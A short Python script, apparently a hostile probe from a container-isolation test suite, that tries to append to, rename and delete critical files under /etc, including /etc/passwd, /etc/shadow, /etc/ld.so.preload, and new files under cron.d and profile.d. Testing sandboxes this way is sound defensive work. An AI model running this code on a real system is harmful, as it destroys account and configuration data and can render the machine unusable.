# Hostile: writes under /etc, including the files Docker bind-mounts into
# the container from the host's container directory (hostname, hosts,
# resolv.conf).
import os

FILES = ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hostname",
         "/etc/hosts", "/etc/resolv.conf", "/etc/ld.so.preload",
         "/etc/LLSRHOSTILE_new", "/etc/cron.d/LLSRHOSTILE", "/etc/profile.d/LLSRHOSTILE.sh"]


def writable():
    ok = []
    for p in FILES:
        try:
            fd = os.open(p, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
            os.write(fd, b"\nLLSRHOSTILE was here\n")
            os.close(fd)
            ok.append(p)
        except OSError:
            pass
        try:
            os.rename(p, p + ".LLSRHOSTILE")
            ok.append("rename " + p)
        except OSError:
            pass
        try:
            os.unlink(p)
            ok.append("unlink " + p)
        except OSError:
            pass
    return ok
